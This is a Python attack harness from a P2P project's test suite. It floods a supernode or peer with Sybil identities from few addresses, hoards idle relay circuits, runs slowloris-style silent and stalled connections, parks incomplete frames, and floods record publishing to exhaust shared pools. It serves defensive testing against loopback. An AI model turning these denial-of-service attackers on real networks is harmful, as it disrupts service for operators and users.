#!/usr/bin/env python3
"""pools.py - attackers for tests/attack/test_pools.sh (issue 13, findings 4,
5, 8, 9 and 12): many identities from a few addresses that try to hold a
shared pool of a supernode or a peer. Each speaks the protocol correctly
(the encodings are tests/e2e/hostile.py's) and prints what it holds, one
line at a time, until it is killed (SIGTERM: it closes everything and
prints its last counts).

    idents  make identities (self-signed Ed25519, kept in --dir)
    circuits  register identities and open idle relay circuits between them
    park    links that send HELLO and all but the last byte of a big frame
    loris   silent TCP connections that hold handshake slots, reconnecting
    hello   links through TLS and HELLO that never REGISTER, reconnecting
    flood   silent TCP connections to a listener, held (no reconnecting)
    publish identities that publish records until refused

Addresses: 127.0.0.0/8 is loopback, so --srcs 127.0.1.1,127.0.2.1 are two
/24 prefixes of one host (a supernode counts fair shares by /24).
"""
import argparse
import os
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
import hostile as H  # noqa: E402

STOP = threading.Event()


def out(*words):
    print(*words, flush=True)


def on_term(signum, frame):
    STOP.set()


def idents(d, n, prefix="atk"):
    return [H.Identity(d, "%s%04d" % (prefix, i)) for i in range(n)]


# ---- a non-blocking frame link --------------------------------------------------------
class Link:
    """A TLS link that did HELLO (and REGISTER when asked), then reads and
    writes without blocking (pump, send)."""

    def __init__(self, target, ident, src, register=True):
        self.ident = ident
        self.c = H.Conn(target, ident, src)
        if register:
            self.c.attach()
        self.sock = self.c.sock
        self.buf = self.c.buf
        self.sock.setblocking(False)
        self.closed = False
        self.open_ids = set()  # circuits we opened (as origin) that are open

    def fileno(self):
        return self.sock.fileno()

    def send(self, data):
        view = memoryview(data)
        deadline = time.monotonic() + 10
        while view:
            try:
                n = self.sock.send(view)
                view = view[n:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                if time.monotonic() > deadline:
                    raise TimeoutError("send stalled")
                select.select([], [self.sock], [], 0.05)
            except (OSError, ssl.SSLError):
                self.closed = True
                return

    def pump(self):
        """Frames that arrived, as (type, payload); sets closed at EOF."""
        frames = []
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.closed = True
                break
            self.buf += data
        while len(self.buf) >= 5:
            n = struct.unpack(">I", self.buf[:4])[0]
            if len(self.buf) < 4 + n:
                break
            f, self.buf = self.buf[:4 + n], self.buf[4 + n:]
            frames.append((f[4], f[5:]))
        return frames


def error_text(payload):
    code, about, text, _ = H.parse_error(payload)
    return "%d %s" % (code, text)


# ---- relay circuits (finding 4) -------------------------------------------------------
def case_circuits(a):
    """Each source address registers --per-src identities; each opens
    --fanout circuits to the next identities of its own address, which
    accept them; then everything is held idle (PINGs on the links keep them
    attached, no RELAY_DATA). A circuit the supernode refuses is asked for
    again (a new circuit ID, at most every 0.1 s), so the attacker takes
    back every slot that frees: the pool stays full."""
    ids = idents(a.dir, len(a.srcs) * a.per_src)
    links, groups = [], []
    for s, src in enumerate(a.srcs):
        g = []
        for k in range(a.per_src):
            g.append(Link(a.target, ids[s * a.per_src + k], src))
        groups.append(g)
        links += g
    out("registered %d identities from %d addresses" % (len(links), len(a.srcs)))
    by_fd = {l.fileno(): l for l in links}
    opened = refused = 0
    closes = {}
    refusals = {}
    sent = 0
    for g in groups:
        for k, l in enumerate(g):
            l.asked = {}  # circuit ID -> the target we asked for
            l.next_cid = 2 * a.fanout + 1
            for j in range(1, a.fanout + 1):
                t = g[(k + j) % len(g)]
                l.send(H.relay_open(2 * j - 1, t.ident.id, l.ident.id))
                l.asked[2 * j - 1] = t.ident.id
                sent += 1
    out("asked for %d circuits" % sent)
    again = []  # (link, target) refused, to ask again
    last_print, last_ping, last_again, nonce = 0.0, time.monotonic(), 0.0, 1
    while not STOP.is_set():
        r, _, _ = select.select(links, [], [], 0.2)
        for l in r:
            for t, p in l.pump():
                if t == H.RELAY_OPEN:  # we are the target: accept
                    l.send(H.frame(H.RELAY_ACCEPT, p[:4]))
                elif t == H.RELAY_OPENED:
                    opened += 1
                    l.open_ids.add(struct.unpack(">I", p[:4])[0])
                elif t == H.RELAY_CLOSE:
                    cid, reason = struct.unpack(">IH", p[:6])
                    if cid & 1 and cid not in l.open_ids:  # our own (odd: we dialed), never open
                        refused += 1
                        refusals[reason] = refusals.get(reason, 0) + 1
                        if cid in l.asked:
                            again.append((l, l.asked.pop(cid)))
                    elif cid & 1:  # the origin's side of a circuit that was open
                        l.open_ids.discard(cid)
                        closes[reason] = closes.get(reason, 0) + 1
                elif t == H.ERROR:
                    out("ERROR", error_text(p))
        now = time.monotonic()
        if again and now - last_again > 0.1:
            l, target = again.pop(0)
            if not l.closed:
                l.send(H.relay_open(l.next_cid, target, l.ident.id))
                l.asked[l.next_cid] = target
                l.next_cid += 2
            last_again = now
        if now - last_ping > a.ping_s:
            for l in links:
                l.send(H.ping(nonce))
            nonce += 1
            last_ping = now
        if now - last_print > 1:
            live = sum(1 for l in links if not l.closed)
            out("circuits open %d opened %d refused %d %s closed %s links %d" %
                (sum(len(l.open_ids) for l in links), opened, refused, sorted(refusals.items()),
                 sorted(closes.items()), live))
            last_print = now


# ---- incomplete frames (finding 5) ---------------------------------------------------------
def case_park(a):
    """--links links spread over --srcs (and over --ids identities), each
    sends HELLO and REGISTER (a backup session: an identity may have many,
    and none replaces another) and then all but the last byte of a frame of
    --frame bytes, and holds it. Prints how many were parked and how many
    the remote closed."""
    ids = idents(a.dir, a.ids)
    lock = threading.Lock()
    held, stats = [], {"parked": 0, "closed": 0, "failed": 0}
    body = H.u32(a.frame - 4) + H.u8(0x7f) + b"\0" * (a.frame - 6)  # the last byte never comes

    def worker(w, src):
        for i in range(w, a.links, len(a.srcs)):
            if STOP.is_set():
                return
            try:
                c = H.Conn(a.target, ids[i % len(ids)], src)
                c.send(H.register(session=2))
                if c.expect(H.REGISTERED, secs=30) is None:
                    raise OSError("not registered")
                s = c.sock
                s.sendall(body)
                with lock:
                    held.append(s)
                    stats["parked"] += 1
            except (OSError, ssl.SSLError, TimeoutError):
                with lock:
                    stats["failed"] += 1

    threads = [threading.Thread(target=worker, args=(w, src), daemon=True)
               for w, src in enumerate(a.srcs)]
    for t in threads:
        t.start()
    while any(t.is_alive() for t in threads):
        time.sleep(0.5)
        out("parking: %d parked, %d failed" % (stats["parked"], stats["failed"]))
    out("parked %d links (%d could not be sent) from %d addresses" %
        (stats["parked"], stats["failed"], len(a.srcs)))
    errors = {}
    while not STOP.is_set():
        closed = 0
        for s in held:
            s.setblocking(False)
            try:
                while True:
                    d = s.recv(65536)
                    if not d:
                        closed += 1
                        break
                    if len(d) > 5 and d[4] == H.ERROR:
                        t = error_text(d[5:])
                        errors[t] = errors.get(t, 0) + 1
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError):
                closed += 1
        out("held: %d of %d links still open; closed with %s" %
            (len(held) - closed, len(held), sorted(errors.items())))
        STOP.wait(2)
    for s in held:
        s.close()


# ---- handshake slots (finding 9) and a listener's fds (finding 8) ---------------------
def case_loris(a):
    """--per-src silent TCP connections from each of --srcs, each one
    replaced as soon as the remote closes it (at most --rate new connections
    a second per address), so that handshake slots stay held."""
    lock = threading.Lock()
    counts = {}

    def worker(src):
        socks = []
        made = 0
        t0 = time.monotonic()
        while not STOP.is_set():
            while len(socks) < a.per_src and made < (time.monotonic() - t0 + 1) * a.rate:
                try:
                    s = socket.socket()
                    s.bind((src, 0))
                    s.setblocking(False)
                    try:
                        s.connect(H.hostport(a.target))
                    except BlockingIOError:
                        pass
                    socks.append(s)
                    made += 1
                except OSError:
                    break
            r, _, _ = select.select(socks, [], [], 0.1) if socks else ([], [], [])
            for s in r:
                try:
                    gone = s.recv(4096) == b""
                except OSError:
                    gone = True
                if gone:
                    socks.remove(s)
                    s.close()
            with lock:
                counts[src] = (len(socks), made)
        for s in socks:
            s.close()

    threads = [threading.Thread(target=worker, args=(src,), daemon=True) for src in a.srcs]
    for t in threads:
        t.start()
    while not STOP.wait(1):
        with lock:
            held = sum(v[0] for v in counts.values())
            made = sum(v[1] for v in counts.values())
        out("loris: %d connections held from %d addresses, %d made" % (held, len(a.srcs), made))
    for t in threads:
        t.join(5)


def case_hello(a):
    """--per-src links from each of --srcs that finish TLS and HELLO and then
    never send REGISTER; each one the remote closes is replaced (at most
    --rate a second per address). Prints how many are held and the ERRORs
    they were closed with."""
    ids = idents(a.dir, min(len(a.srcs) * a.per_src, 64))  # shared: nothing counts them before REGISTER
    lock = threading.Lock()
    held, made, errors = {}, {}, {}

    def worker(s, src):
        links = []
        t0 = time.monotonic()
        n = 0
        while not STOP.is_set():
            while len(links) < a.per_src and n < (time.monotonic() - t0 + 1) * a.rate:
                try:
                    links.append(Link(a.target, ids[(s * a.per_src + n) % len(ids)], src,
                                      register=False))
                except (OSError, ssl.SSLError, TimeoutError, SystemExit):
                    pass
                n += 1
            r, _, _ = select.select(links, [], [], 0.1) if links else ([], [], [])
            for l in r:
                for t, p in l.pump():
                    if t == H.ERROR:
                        with lock:
                            k = error_text(p)
                            errors[k] = errors.get(k, 0) + 1
            for l in [l for l in links if l.closed]:
                links.remove(l)
                l.sock.close()
            with lock:
                held[src], made[src] = len(links), n
        for l in links:
            l.sock.close()

    threads = [threading.Thread(target=worker, args=(s, src), daemon=True)
               for s, src in enumerate(a.srcs)]
    for t in threads:
        t.start()
    while not STOP.wait(1):
        with lock:
            out("hello: %d links held from %d addresses, %d made; closed with %s" %
                (sum(held.values()), len(a.srcs), sum(made.values()), sorted(errors.items())))
    for t in threads:
        t.join(5)


def case_flood(a):
    """--n silent TCP connections spread over --srcs, opened as fast as the
    kernel takes them and held; none is replaced."""
    socks = []
    failed = 0
    for i in range(a.n):
        src = a.srcs[i % len(a.srcs)]
        try:
            s = socket.socket()
            s.bind((src, 0))
            s.settimeout(5)
            s.connect(H.hostport(a.target))
            socks.append(s)
        except OSError:
            failed += 1
    out("flood: %d connections open, %d failed" % (len(socks), failed))
    while not STOP.wait(1):
        closed = 0
        for s in socks:
            s.setblocking(False)
            try:
                if s.recv(1) == b"":
                    closed += 1
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        out("flood: %d of %d still open" % (len(socks) - closed, len(socks)))
    for s in socks:
        s.close()


# ---- index records (finding 12) -----------------------------------------------------------
def case_publish(a):
    """--per-src identities from each of --srcs attach and publish
    --records records each (1000 a PUBLISH); prints what was accepted."""
    ids = idents(a.dir, len(a.srcs) * a.per_src, prefix=a.prefix)
    links = []
    total_ok = total_bad = 0
    for s, src in enumerate(a.srcs):
        for k in range(a.per_src):
            ident = ids[s * a.per_src + k]
            c = H.Conn(a.target, ident, src)
            c.attach()
            links.append(c)
            ok = bad = 0
            texts = set()
            for first in range(0, a.records, 1000):
                n = min(1000, a.records - first)
                recs = [H.record(b"%s pool record %s %d" % (a.word.encode(), ident.id_str[:8].encode(), first + i))
                        for i in range(n)]
                c.send(H.publish(recs))
                f = c.expect(H.PUBLISH_ACK, secs=20)
                if f is None:
                    raise SystemExit("closed during PUBLISH")
                acc, rej = struct.unpack(">HH", f[1][:4])
                ok += acc
                bad += rej
                if rej:
                    e = c.expect(H.ERROR, secs=10)
                    if e:
                        texts.add(error_text(e[1]))
            total_ok += ok
            total_bad += bad
            out("publisher %s from %s: %d accepted, %d refused%s" %
                (ident.id_str[:8], src, ok, bad, (": " + "; ".join(sorted(texts))) if texts else ""))
    out("published: %d accepted, %d refused by %d identities from %d addresses" %
        (total_ok, total_bad, len(links), len(a.srcs)))
    while not STOP.wait(5):
        for c in links:
            c.send(H.ping(1))


def main():
    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--target", help="HOST:PORT of the supernode or peer")
    ap.add_argument("--srcs", default="127.0.1.1", help="source addresses, comma-separated")
    ap.add_argument("--dir", required=True, help="where identities are kept")
    sub = ap.add_subparsers(dest="case", required=True)
    p = sub.add_parser("idents")
    p.add_argument("--n", type=int, required=True)
    p.add_argument("--prefix", default="atk")
    p = sub.add_parser("circuits")
    p.add_argument("--per-src", type=int, default=32)
    p.add_argument("--fanout", type=int, default=8)
    p.add_argument("--ping-s", type=float, default=10)
    p = sub.add_parser("park")
    p.add_argument("--links", type=int, default=1000)
    p.add_argument("--ids", type=int, default=136)
    p.add_argument("--frame", type=int, default=1 << 20)
    p = sub.add_parser("loris")
    p.add_argument("--per-src", type=int, default=60)
    p.add_argument("--rate", type=int, default=200)
    p = sub.add_parser("flood")
    p.add_argument("--n", type=int, default=1100)
    p = sub.add_parser("publish")
    p.add_argument("--per-src", type=int, default=4)
    p.add_argument("--records", type=int, default=1000)
    p.add_argument("--word", default="flood")
    p.add_argument("--prefix", default="pub", help="names of its identities")
    p = sub.add_parser("hello")
    p.add_argument("--per-src", type=int, default=60)
    p.add_argument("--rate", type=int, default=50)
    a = ap.parse_args()
    a.srcs = a.srcs.split(",")
    if a.case == "idents":
        idents(a.dir, a.n, a.prefix)
        out("%d identities in %s" % (a.n, a.dir))
        return
    {"circuits": case_circuits, "park": case_park, "loris": case_loris, "flood": case_flood,
     "publish": case_publish, "hello": case_hello}[a.case](a)


if __name__ == "__main__":
    main()
